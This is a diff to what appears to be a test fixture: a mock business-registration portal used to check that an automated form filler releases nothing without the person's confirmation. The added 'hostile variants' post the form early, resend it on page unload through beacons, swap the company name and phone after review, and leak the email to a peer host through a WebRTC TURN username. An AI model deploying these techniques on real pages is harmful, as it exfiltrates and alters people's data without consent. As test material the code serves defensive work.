@@ -128,6 +128,86 @@
     fetch(url, { method: "POST", body: new FormData(form) }).catch(function () {});
   }
 
+  /* Hostile variants: pages a redesigned or compromised portal could serve, each trying to
+     get the registration out without the person's confirmation, or to send something else
+     than what they reviewed. A filler must let none of it out. */
+  function wholeForm(url, options) {
+    var form = FCR.byId("registration-form");
+    if (!form) return;
+    var init = { method: "POST", body: new FormData(form) };
+    for (var key in options || {}) init[key] = options[key];
+    fetch(url || form.getAttribute("action"), init).catch(function () {});
+  }
+
+  // The values a late change puts in place of what the person reviewed.
+  function changeValues() {
+    var name = FCR.byId("enterprise_company_name");
+    if (name) name.value = name.value + " Holdings";
+    var first = FCR.byId("enterprise_phone_0");
+    if (first && first.value) first.value = first.value.slice(0, -2) + "99";
+  }
+
+  var CONTINUES = { nextButton1: 1, nextButton2: 1, "send-verification-code": 1 };
+
+  function installHostile() {
+    var classic = body.dataset.layout === "classic";
+    document.addEventListener(
+      "click",
+      function (e) {
+        var button = e.target.closest && e.target.closest("button");
+        if (!button) return;
+        var registers = classic ? "send-verification-code" : "nextButton2";
+        if (FCR.variant("continue-registers") && button.id === registers) wholeForm();
+        if (FCR.variant("timer-post") && CONTINUES[button.id]) setTimeout(wholeForm, 0);
+        if (FCR.variant("swap-on-submit") && button.id === "submitButton") changeValues();
+      },
+      true
+    );
+    if (FCR.variant("farewell")) {
+      var farewell = function () {
+        var form = FCR.byId("registration-form");
+        if (!form) return;
+        wholeForm(null, { keepalive: true });
+        wholeForm();
+        try {
+          navigator.sendBeacon(form.getAttribute("action"), new FormData(form));
+        } catch (err) {
+          /* no beacons here */
+        }
+      };
+      ["pagehide", "beforeunload", "unload"].forEach(function (type) {
+        window.addEventListener(type, farewell);
+      });
+      document.addEventListener("visibilitychange", farewell);
+    }
+  }
+
+  /* Called by each layout once what the person reviews is on the page: the wizard's review
+     step, the classic layout once the code is typed. */
+  FCR.reviewShown = function () {
+    if (FCR.variant("late-change")) setTimeout(changeValues, 1500);
+    if (FCR.variant("webrtc")) {
+      // An uncaught error if the browser has no WebRTC: the page's own problem.
+      setTimeout(function () {
+        var email = (FCR.byId(FCR.IDS.email) || {}).value || "";
+        var peer = new RTCPeerConnection({
+          iceServers: [
+            {
+              urls: ["turn:" + body.dataset.peer + "?transport=udp", "stun:" + body.dataset.peer],
+              username: email,
+              credential: "registration"
+            }
+          ]
+        });
+        peer.createDataChannel("registration");
+        peer.createOffer().then(function (offer) {
+          return peer.setLocalDescription(offer);
+        });
+      }, 0);
+    }
+    FCR.selfPostLater();
+  };
+
   FCR.selfPostLater = function () {
     if (!FCR.has("self-post")) return;
     setTimeout(function () {
@@ -149,7 +229,6 @@
       var form = FCR.byId("registration-form");
       post(form.getAttribute("action"));
       post("/fcr/api/draft");
-      if (body.dataset.layout === "classic") FCR.selfPostLater();
     });
   }
 
@@ -162,6 +241,14 @@
       else if (FCR.has("rerender")) installRerender(1);
       if (FCR.has("offsite-request")) installOffsite();
       if (FCR.has("self-post")) installSelfPost();
+      installHostile();
+      if (body.dataset.layout === "classic") {
+        document.addEventListener("input", function once(e) {
+          if (!e.target || e.target.id !== FCR.IDS.code) return;
+          document.removeEventListener("input", once);
+          FCR.reviewShown();
+        });
+      }
     }
     var late = FCR.byId("late-content");
     if (FCR.has("slow") && late) {
